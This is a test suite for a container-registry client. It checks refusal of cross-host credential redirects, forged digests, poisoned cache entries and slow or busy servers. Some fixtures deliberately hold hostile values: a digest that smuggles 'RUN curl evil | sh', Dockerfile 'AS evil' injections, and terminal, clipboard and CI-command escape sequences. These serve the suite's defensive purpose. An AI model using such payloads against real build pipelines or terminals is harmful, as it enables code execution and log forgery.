// The registry client against registries that misbehave or lie: redirects that would carry
// credentials elsewhere, digests that are not digests, odd token answers, a cache written
// concurrently or by someone else, and servers that ask to be retried later. Stub servers run on
// 127.0.0.1 and the real registry comes from local-registry.ts; nothing touches the internet.
import { strict as assert } from 'node:assert';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { runPin } from '../../server/src/cli/pin-command';
import { FileDigestCache, RegistryClient, type DigestCache, type ResolvedDigest } from '../../server/src/registry';
import { TEST_PASSWORD, TEST_USER, startProxy, startRegistry, type LocalRegistry } from './local-registry';
import { rejectsWith, tempDir, writeDockerConfig } from './helpers';

const DOCKER_MANIFEST = 'application/vnd.docker.distribution.manifest.v2+json';
const OCI_INDEX = 'application/vnd.oci.image.index.v1+json';
const sha256 = (body: string) => `sha256:${createHash('sha256').update(body).digest('hex')}`;
/** A manifest the stubs serve, and its digest: the client hashes what it is served. */
const MANIFEST = JSON.stringify({ schemaVersion: 2, mediaType: DOCKER_MANIFEST, config: {}, layers: [] });
const GOOD = sha256(MANIFEST);
const noConfig = path.join(os.tmpdir(), 'shipshape-no-such-config.json');

interface Stub {
  host: string;
  requests: { method: string; url: string; authorization?: string; body: string }[];
  stop(): Promise<void>;
}

/** A node:http server on 127.0.0.1 that records every request (with its body) before answering. */
async function stub(answer: (req: http.IncomingMessage, res: http.ServerResponse, body: string) => void): Promise<Stub> {
  const requests: Stub['requests'] = [];
  const server = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      requests.push({ method: req.method ?? '', url: req.url ?? '', authorization: req.headers.authorization, body });
      answer(req, res, body);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    host: `127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    stop: () => {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(() => resolve()));
    },
  };
}

/** A registry that serves one single-platform manifest to `Bearer good` and challenges everyone else. */
function tokenProtectedRegistry(realm: () => string) {
  return stub((req, res) => {
    if (req.headers.authorization !== 'Bearer good') {
      res.writeHead(401, { 'WWW-Authenticate': `Bearer realm="${realm()}",service="svc"` });
      return res.end();
    }
    res.writeHead(200, { 'Content-Type': DOCKER_MANIFEST, 'Docker-Content-Digest': GOOD });
    res.end(MANIFEST);
  });
}

/** A client whose every request is answered by `answer`, without any server. */
function mockClient(answer: (url: string, init: RequestInit) => Response, extra: object = {}): RegistryClient {
  const fetch = (async (url: string | URL, init?: RequestInit) => answer(String(url), init ?? {})) as typeof globalThis.fetch;
  return new RegistryClient({ fetch, retries: 0, dockerConfigPath: noConfig, ...extra });
}

describe('registry: credentials never follow a redirect to another host', function () {
  let dir: string;
  const stubs: Stub[] = [];
  beforeEach(() => (dir = tempDir('shipshape-redirect-')));
  afterEach(async () => {
    for (const s of stubs.splice(0)) await s.stop();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  async function setUp(token: (req: http.IncomingMessage, res: http.ServerResponse, body: string) => void, auth: object) {
    const elsewhere = await stub((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.end('{"token":"good","access_token":"good"}');
    });
    const tokens = await stub(token);
    const registry = await tokenProtectedRegistry(() => `http://${tokens.host}/token`);
    stubs.push(elsewhere, tokens, registry);
    const dockerConfigPath = writeDockerConfig(dir, { auths: { [registry.host]: auth } });
    return { elsewhere, tokens, registry, client: new RegistryClient({ dockerConfigPath, retries: 0 }) };
  }

  it('refuses a token service redirect to another host instead of resending the refresh token', async () => {
    let elsewhereHost = '';
    const { elsewhere, tokens, registry, client } = await setUp(
      (_req, res) => {
        res.writeHead(307, { Location: `http://${elsewhereHost}/steal` });
        res.end();
      },
      { identitytoken: 'REFRESH-SECRET' },
    );
    elsewhereHost = elsewhere.host;
    const error = await rejectsWith(client.resolve(`${registry.host}/app:1`), 'bad-response');
    assert.match(error.message, new RegExp(`redirected a token request to ${elsewhere.host}`));
    assert.equal(tokens.requests.length, 1);
    assert.match(tokens.requests[0]!.body, /refresh_token=REFRESH-SECRET/);
    assert.deepEqual(elsewhere.requests, [], 'nothing may reach the host the redirect names');
  });

  it('refuses a token service redirect to another host for a Basic-authenticated GET', async () => {
    let elsewhereHost = '';
    const { elsewhere, registry, client } = await setUp(
      (_req, res) => {
        res.writeHead(302, { Location: `http://${elsewhereHost}/steal` });
        res.end();
      },
      { auth: Buffer.from('user:secretpw').toString('base64') },
    );
    elsewhereHost = elsewhere.host;
    await rejectsWith(client.resolve(`${registry.host}/app:1`), 'bad-response');
    assert.deepEqual(elsewhere.requests, []);
  });

  it('follows a token service redirect within its own origin', async () => {
    const { tokens, registry, client } = await setUp(
      (req, res, body) => {
        if (req.url === '/token') {
          res.writeHead(307, { Location: '/oauth/token' });
          return res.end();
        }
        const granted = req.method === 'POST' && new URLSearchParams(body).get('refresh_token') === 'REFRESH-SECRET';
        res.writeHead(granted ? 200 : 401, { 'Content-Type': 'application/json' });
        res.end(granted ? '{"access_token":"good","expires_in":300}' : '{}');
      },
      { identitytoken: 'REFRESH-SECRET' },
    );
    assert.equal((await client.resolve(`${registry.host}/app:1`)).digest, GOOD);
    assert.deepEqual(
      tokens.requests.map((r) => `${r.method} ${r.url}`),
      ['POST /token', 'POST /oauth/token'],
    );
  });
});

describe('registry: an authenticated registry that redirects to storage', () => {
  let dir: string;
  const stubs: Stub[] = [];
  beforeEach(() => (dir = tempDir('shipshape-storage-')));
  afterEach(async () => {
    for (const s of stubs.splice(0)) await s.stop();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('sends its token only to the registry, and reads the manifest from storage anonymously', async () => {
    const storage = await stub((req, res) => {
      res.writeHead(req.headers.authorization ? 400 : 200, { 'Content-Type': DOCKER_MANIFEST, 'Docker-Content-Digest': GOOD });
      res.end(req.headers.authorization ? '' : MANIFEST);
    });
    const tokens = await stub((req, res) => {
      const granted = req.headers.authorization === `Basic ${Buffer.from('user:pw').toString('base64')}`;
      res.writeHead(granted ? 200 : 401, { 'Content-Type': 'application/json' });
      res.end(granted ? '{"token":"good"}' : '{}');
    });
    const registry = await stub((req, res) => {
      if (req.headers.authorization !== 'Bearer good') {
        res.writeHead(401, { 'WWW-Authenticate': `Bearer realm="http://${tokens.host}/token",service="svc"` });
      } else {
        res.writeHead(307, { Location: `http://${storage.host}/blob${req.url}` });
      }
      res.end();
    });
    stubs.push(storage, tokens, registry);
    const dockerConfigPath = writeDockerConfig(dir, { auths: { [registry.host]: { username: 'user', password: 'pw' } } });
    const result = await new RegistryClient({ dockerConfigPath, retries: 0 }).resolve(`${registry.host}/app:1`);
    assert.equal(result.digest, GOOD);
    assert.deepEqual(
      storage.requests.map((r) => [r.method, r.authorization]),
      [['GET', undefined]],
    );
    assert.deepEqual(
      registry.requests.map((r) => r.authorization),
      [undefined, 'Bearer good'],
    );
  });
});

describe('registry: manifest redirects', function () {
  let registry: LocalRegistry;
  let authRegistry: LocalRegistry;
  let dir: string;
  let single: string;

  before(async function () {
    this.timeout(180_000);
    registry = await startRegistry();
    authRegistry = await startRegistry({ auth: 'token' });
    single = (await registry.pushSingle('team/app', '1', { platform: 'linux/arm64' })).digest;
    await authRegistry.pushSingle('private/app', '1');
    dir = tempDir('shipshape-manifest-redirect-');
  });
  after(async () => {
    await registry?.stop();
    await authRegistry?.stop();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  function redirectingTo(target: string) {
    return startProxy(target, (req, res) => {
      res.writeHead(307, { Location: `http://${target}${req.url}` });
      res.end();
      return true;
    });
  }

  it('does not answer a challenge from the host a manifest request was redirected to', async () => {
    const proxy = await redirectingTo(authRegistry.host);
    try {
      const dockerConfigPath = writeDockerConfig(dir, {
        auths: { [proxy.host]: { auth: Buffer.from(`${TEST_USER}:${TEST_PASSWORD}`).toString('base64') } },
      });
      const before = authRegistry.tokenRequests;
      const error = await rejectsWith(
        new RegistryClient({ dockerConfigPath, retries: 0 }).resolve(`${proxy.host}/private/app:1`),
        'unauthorized',
      );
      assert.match(error.message, new RegExp(`redirected .* to ${authRegistry.host}, which asks for credentials`));
      assert.equal(authRegistry.tokenRequests, before, "the other host's token service got no request");
      assert.ok(proxy.requests.every((r) => r.headers.authorization === undefined));
    } finally {
      await proxy.stop();
    }
  });

  it('still follows manifest and blob redirects to a storage host, anonymously', async () => {
    const proxy = await redirectingTo(registry.host);
    try {
      const client = new RegistryClient({ dockerConfigPath: noConfig, retries: 0 });
      assert.equal((await client.resolve(`${proxy.host}/team/app:1`)).digest, single);
      const arm = await client.resolve(`${proxy.host}/team/app:1`, { platform: 'linux/arm64' });
      assert.equal(arm.digest, single);
      assert.equal(arm.platform, 'linux/arm64');
      assert.ok(
        proxy.requests.some((r) => r.url.includes('/blobs/sha256:')),
        'the config blob came through the redirect',
      );
    } finally {
      await proxy.stop();
    }
  });
});

describe('registry: answers that are not what they claim', () => {
  const manifest = JSON.stringify({ schemaVersion: 2, mediaType: DOCKER_MANIFEST, config: {}, layers: [] });

  it('never returns a Docker-Content-Digest that is not a digest', async () => {
    const evil = 'sha256:deadbeef AS evil';
    const error = await rejectsWith(
      mockClient(
        () => new Response(manifest, { headers: { 'Docker-Content-Digest': evil, 'Content-Type': DOCKER_MANIFEST } }),
      ).resolve('example.com/x:1'),
      'bad-response',
    );
    assert.match(error.message, /malformed digest/);
    assert.doesNotMatch(error.message, /evil/);
  });

  it('refuses an answer that is not an image manifest or index (an error page, schema 1)', async () => {
    for (const [type, body, pattern] of [
      ['application/json', JSON.stringify({ errors: [{ code: 'DENIED' }] }), /"application\/json", not an image manifest/],
      [
        'application/vnd.docker.distribution.manifest.v1+prettyjws',
        JSON.stringify({ schemaVersion: 1, name: 'x', tag: '1', fsLayers: [] }),
        /schema-1 manifest/,
      ],
    ] as const) {
      const client = mockClient(() => new Response(body, { headers: { 'Content-Type': type } }));
      const error = await rejectsWith(client.resolve('example.com/x:1'), 'bad-response');
      assert.match(error.message, pattern);
    }
  });

  it('refuses a manifest that a redirect downgraded to plain HTTP', async () => {
    const client = mockClient((url) => {
      const response = new Response(manifest, {
        headers: { 'Content-Type': DOCKER_MANIFEST, 'Docker-Content-Digest': sha256(manifest) },
      });
      // What fetch reports after following https://example.com/... -> http://cdn.example.net/...
      Object.defineProperty(response, 'url', { value: url.replace('https://example.com', 'http://cdn.example.net') });
      return response;
    });
    const error = await rejectsWith(client.resolve('example.com/x:1'), 'bad-response');
    assert.match(error.message, /redirected to plain HTTP \(cdn\.example\.net\)/);
  });

  it('never pins or caches a digest header that the manifest bytes do not hash to', async () => {
    // A well-formed digest of something else: a HEAD answer alone used to be pinned and cached.
    const forged = `sha256:${'f'.repeat(64)}`;
    const methods: string[] = [];
    const stored: ResolvedDigest[] = [];
    const cache: DigestCache = {
      get: async () => undefined,
      set: async (_key, value) => void stored.push(value),
      lookupByDigest: async () => undefined,
    };
    const client = mockClient(
      (_url, init) => {
        methods.push(String(init.method));
        // What a HEAD and the GET would both say; only the GET's bytes can show it is false.
        const headers = { 'Docker-Content-Digest': forged, 'Content-Type': DOCKER_MANIFEST };
        return new Response(init.method === 'HEAD' ? null : manifest, { headers });
      },
      { cache },
    );
    const error = await rejectsWith(client.resolve('example.com/x:1'), 'bad-response');
    assert.match(error.message, /does not match its digest/);
    assert.deepEqual(stored, [], 'nothing cached');
    assert.deepEqual(methods, ['GET'], 'the digest comes from the bytes, so no HEAD is asked');
  });

  it('hashes the manifest itself when there is no digest header', async () => {
    const client = mockClient(() => new Response(manifest, { headers: { 'Content-Type': DOCKER_MANIFEST } }));
    assert.equal((await client.resolve('example.com/x:1')).digest, sha256(manifest));
  });

  it('rejects an index that lists a malformed digest for the platform asked for', async () => {
    const index = JSON.stringify({
      schemaVersion: 2,
      mediaType: OCI_INDEX,
      manifests: [{ digest: 'sha256:abc AS evil', platform: { os: 'linux', architecture: 'amd64' } }],
    });
    const client = mockClient(() => new Response(index, { headers: { 'Content-Type': OCI_INDEX } }));
    const error = await rejectsWith(client.resolve('example.com/x:1', { platform: 'linux/amd64' }), 'bad-response');
    assert.match(error.message, /invalid digest for linux\/amd64/);
  });

  it('reports a token answer of null, a string or an array as a bad response', async () => {
    for (const body of ['null', '"token"', '[]', '42']) {
      const client = mockClient((url) =>
        url.startsWith('https://auth.example.com/')
          ? new Response(body, { headers: { 'Content-Type': 'application/json' } })
          : new Response(null, { status: 401, headers: { 'WWW-Authenticate': 'Bearer realm="https://auth.example.com/token"' } }),
      );
      const error = await rejectsWith(client.resolve('example.com/x:1'), 'bad-response');
      assert.match(error.message, /answered without a token/, body);
    }
  });
});

describe('registry: a --platform pin of a single-platform image', () => {
  const config = JSON.stringify({ architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: [] } });
  const configDigest = sha256(config);
  const manifest = JSON.stringify({
    schemaVersion: 2,
    mediaType: DOCKER_MANIFEST,
    config: { mediaType: 'application/vnd.docker.container.image.v1+json', digest: configDigest, size: config.length },
    layers: [],
  });
  const answer = (blob: string) => (url: string) =>
    url.endsWith(`/blobs/${configDigest}`)
      ? new Response(blob)
      : new Response(manifest, { headers: { 'Content-Type': DOCKER_MANIFEST } });

  it('pins it only for the platform its config names', async () => {
    const amd = await mockClient(answer(config)).resolve('example.com/x:1', { platform: 'linux/x86_64' });
    assert.equal(amd.digest, sha256(manifest));
    assert.equal(amd.platform, 'linux/amd64');
    const error = await rejectsWith(
      mockClient(answer(config)).resolve('example.com/x:1', { platform: 'linux/arm64' }),
      'platform-not-found',
    );
    assert.match(error.message, /single-platform image for linux\/amd64, not linux\/arm64/);
  });

  it('rejects a config blob that does not match its digest', async () => {
    const forged = config.replace('amd64', 'arm64');
    await rejectsWith(mockClient(answer(forged)).resolve('example.com/x:1', { platform: 'linux/arm64' }), 'bad-response');
  });
});

describe('registry: digest cache safety', () => {
  let dir: string;
  beforeEach(() => (dir = tempDir('shipshape-cache-safety-')));
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  const entry = (i: number, digest = `sha256:${i.toString(16).padStart(64, '0')}`): ResolvedDigest => ({
    reference: `example.com/app:${i}`,
    registry: 'example.com',
    repository: 'app',
    tag: String(i),
    digest,
    mediaType: DOCKER_MANIFEST,
    platforms: [],
    resolvedAt: new Date().toISOString(),
  });

  it('keeps every entry when set() runs concurrently, from one cache object or several', async () => {
    const caches = [new FileDigestCache({ dir }), new FileDigestCache({ dir })];
    await Promise.all(Array.from({ length: 20 }, (_, i) => caches[i % 2]!.set(`k${i}`, entry(i))));
    const saved = JSON.parse(fs.readFileSync(caches[0]!.file, 'utf8')) as { entries: Record<string, ResolvedDigest> };
    assert.deepEqual(Object.keys(saved.entries).sort(), Array.from({ length: 20 }, (_, i) => `k${i}`).sort());
    assert.ok(
      fs.readdirSync(dir).every((f) => !f.endsWith('.tmp')),
      'no temp files left behind',
    );
  });

  it('treats entries whose digest is malformed as misses, and never stores one', async () => {
    const cache = new FileDigestCache({ dir });
    const bad = entry(1, 'sha256:abc\nRUN curl evil | sh');
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(cache.file, JSON.stringify({ version: 1, entries: { bad, good: entry(2) } }));
    assert.equal(await cache.get('bad'), undefined);
    assert.equal(await cache.lookupByDigest(bad.digest), undefined);
    assert.equal((await cache.get('good'))?.digest, entry(2).digest);
    await assert.rejects(cache.set('worse', entry(3, 'sha256:deadbeef AS evil')));
    assert.equal(await cache.get('worse'), undefined);
  });

  it('asks the registry when a cache answers a malformed digest', async () => {
    const stored: ResolvedDigest[] = [];
    const poisoned: DigestCache = {
      get: async () => entry(1, 'sha256:deadbeef AS evil'),
      set: async (_key, value) => void stored.push(value),
      lookupByDigest: async () => undefined,
    };
    const client = mockClient(
      () => new Response(MANIFEST, { headers: { 'Docker-Content-Digest': GOOD, 'Content-Type': DOCKER_MANIFEST } }),
      {
        cache: poisoned,
      },
    );
    assert.equal((await client.resolve('example.com/x:1')).digest, GOOD);
    assert.deepEqual(
      stored.map((s) => s.digest),
      [GOOD],
    );
  });
});

describe('registry: failing and busy servers', function () {
  let registry: LocalRegistry;
  let digest: string;

  before(async function () {
    this.timeout(120_000);
    registry = await startRegistry();
    digest = (await registry.pushSingle('busy/app', '1')).digest;
  });
  after(async () => registry?.stop());

  it('asks with one GET, whose bytes it hashes (no HEAD)', async () => {
    const proxy = await startProxy(registry.host);
    try {
      const client = new RegistryClient({ retries: 0, dockerConfigPath: noConfig });
      assert.equal((await client.resolve(`${proxy.host}/busy/app:1`)).digest, digest);
      assert.deepEqual(
        proxy.requests.map((r) => r.method),
        ['GET'],
      );
    } finally {
      await proxy.stop();
    }
  });

  it('waits as long as Retry-After asks before trying again', async () => {
    const proxy = await startProxy(registry.host, (_req, res, index) => {
      if (index > 0) return false;
      res.writeHead(503, { 'Retry-After': '1' });
      res.end();
      return true;
    });
    try {
      const client = new RegistryClient({ retries: 1, dockerConfigPath: noConfig });
      const start = Date.now();
      assert.equal((await client.resolve(`${proxy.host}/busy/app:1`)).digest, digest);
      const elapsed = Date.now() - start;
      assert.ok(elapsed >= 950, `retried after ${elapsed} ms`);
      assert.equal(proxy.requests.length, 2);
    } finally {
      await proxy.stop();
    }
  });

  it('reads a Retry-After date against its clock', async () => {
    const now = Date.parse('2025-01-01T00:00:00Z');
    const times: number[] = [];
    const client = mockClient(
      () => {
        times.push(Date.now());
        return times.length === 1
          ? new Response(null, { status: 429, headers: { 'Retry-After': 'Wed, 01 Jan 2025 00:00:01 GMT' } })
          : new Response(MANIFEST, { headers: { 'Docker-Content-Digest': GOOD, 'Content-Type': DOCKER_MANIFEST } });
      },
      { retries: 1, now: () => now },
    );
    assert.equal((await client.resolve('example.com/x:1')).digest, GOOD);
    assert.ok(times[1]! - times[0]! >= 950, `retried after ${times[1]! - times[0]!} ms`);
  });

  it('gives up at once when Retry-After asks for longer than is worth waiting', async () => {
    const proxy = await startProxy(registry.host, (_req, res) => {
      res.writeHead(429, { 'Retry-After': '3600' });
      res.end();
      return true;
    });
    try {
      const client = new RegistryClient({ retries: 2, dockerConfigPath: noConfig });
      // One request and the 429 itself: no retry was scheduled (waiting the hour would time the test out).
      const error = await rejectsWith(client.resolve(`${proxy.host}/busy/app:1`), 'bad-response');
      assert.equal(error.status, 429);
      assert.equal(proxy.requests.length, 1);
    } finally {
      await proxy.stop();
    }
  });
});

describe('registry: strings a registry supplies reach messages, the cache and files only in their specified shapes', () => {
  const INJECTION = 'x\n::error title=pin::injected\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u009b31m';
  const plainText = (text: string) => assert.doesNotMatch(text, /[\u0000-\u001f\u007f-\u009f]/, JSON.stringify(text));

  it('shows a hostile mediaType with its control characters made visible', async () => {
    const body = JSON.stringify({ schemaVersion: 2, mediaType: INJECTION, layers: [] });
    const error = await rejectsWith(mockClient(() => new Response(body)).resolve('example.com/x:1'), 'bad-response');
    plainText(error.message);
    assert.match(error.message, /"x\\n::error title=pin::injected\\x1b\]52/);
  });

  it('leaves out index entries whose platform or media type is not made of plain names', async () => {
    const entry = (os: string, architecture: string, mediaType = DOCKER_MANIFEST) => ({
      mediaType,
      digest: GOOD,
      size: 1,
      platform: { os, architecture },
    });
    const index = JSON.stringify({
      schemaVersion: 2,
      mediaType: OCI_INDEX,
      manifests: [entry(INJECTION, 'amd64'), entry('linux', INJECTION), entry('linux', 'arm64', INJECTION)],
    });
    const client = mockClient(() => new Response(index, { headers: { 'Content-Type': OCI_INDEX } }));
    const all = await client.resolve('example.com/x:1');
    assert.deepEqual(all.platforms, ['linux/arm64']);
    const arm = await client.resolve('example.com/x:1', { platform: 'linux/arm64' });
    assert.equal(arm.mediaType, 'application/vnd.oci.image.manifest.v1+json', 'a hostile media type is not kept');
    const error = await rejectsWith(client.resolve('example.com/x:1', { platform: 'linux/s390x' }), 'platform-not-found');
    plainText(error.message);
    assert.match(error.message, /available: linux\/arm64\)/);
  });

  it('refuses a config blob whose platform is not made of plain names', async () => {
    const config = JSON.stringify({ architecture: 'amd64', os: INJECTION });
    const manifest = JSON.stringify({
      schemaVersion: 2,
      mediaType: DOCKER_MANIFEST,
      config: { mediaType: 'application/vnd.docker.container.image.v1+json', digest: sha256(config), size: config.length },
      layers: [],
    });
    const client = mockClient((url) =>
      url.includes('/blobs/') ? new Response(config) : new Response(manifest, { headers: { 'Content-Type': DOCKER_MANIFEST } }),
    );
    const error = await rejectsWith(client.resolve('example.com/x:1', { platform: 'linux/amd64' }), 'bad-response');
    plainText(error.message);
  });

  it('treats a cache entry with a hostile platform or media type as a miss', async () => {
    const poisoned: DigestCache = {
      get: async () => ({
        reference: 'example.com/x:1',
        registry: 'example.com',
        repository: 'x',
        tag: '1',
        digest: GOOD,
        mediaType: DOCKER_MANIFEST,
        platforms: [INJECTION],
        resolvedAt: new Date().toISOString(),
      }),
      set: async () => undefined,
      lookupByDigest: async () => undefined,
    };
    let asked = 0;
    const client = mockClient(
      () => {
        asked++;
        return new Response(MANIFEST, { headers: { 'Content-Type': DOCKER_MANIFEST } });
      },
      { cache: poisoned },
    );
    assert.deepEqual((await client.resolve('example.com/x:1')).platforms, []);
    assert.equal(asked, 1, 'the registry was asked instead');
  });
});

describe('registry: a registry that drip-feeds its answers', function () {
  this.timeout(30_000);
  const stubs: Stub[] = [];
  let dir: string;
  beforeEach(() => (dir = tempDir('shipshape-drip-')));
  afterEach(async () => {
    for (const s of stubs.splice(0)) await s.stop();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  /** Headers at once, then one byte of a never-ending manifest every 100 ms: no request ever times out. */
  async function drippingRegistry(): Promise<Stub> {
    const registry = await stub((_req, res) => {
      res.writeHead(200, { 'Content-Type': DOCKER_MANIFEST });
      const timer = setInterval(() => res.write(' '), 100);
      res.on('close', () => clearInterval(timer));
    });
    stubs.push(registry);
    return registry;
  }

  it('costs one image at most its time budget, however long each request may take', async () => {
    const registry = await drippingRegistry();
    // Requests may take 10 s and are retried twice: without a budget this image took over 30 s.
    const client = new RegistryClient({ dockerConfigPath: noConfig, timeoutMs: 10_000, retries: 2, imageBudgetMs: 1_000 });
    // The budget's own error, not a request timeout (10 s each, retried: over 30 s without the budget).
    const error = await rejectsWith(client.resolve(`${registry.host}/app:1`), 'timeout');
    assert.match(error.message, /time budget for one image/);
  });

  it('costs a whole `shipshape pin` run at most its time budget', async () => {
    const registry = await drippingRegistry();
    const lines = Array.from({ length: 6 }, (_, i) => `FROM ${registry.host}/app${i}:1 AS s${i}`);
    fs.writeFileSync(path.join(dir, 'Dockerfile'), lines.join('\n') + '\n');
    const client = new RegistryClient({ dockerConfigPath: noConfig, timeoutMs: 10_000, retries: 2, imageBudgetMs: 60_000 });
    let stderr = '';
    const io = { stdout: () => undefined, stderr: (s: string) => void (stderr += s), isTTY: false, env: {}, cwd: dir };
    // Every image reports the run's budget, not its own 60 s one nor a request timeout.
    const code = await runPin(['--dry-run', dir], io, { client, runBudgetMs: 1_000 });
    assert.equal(code, 1);
    assert.equal(stderr.match(/time budget of this run is spent/g)?.length, 6, stderr);
  });
});
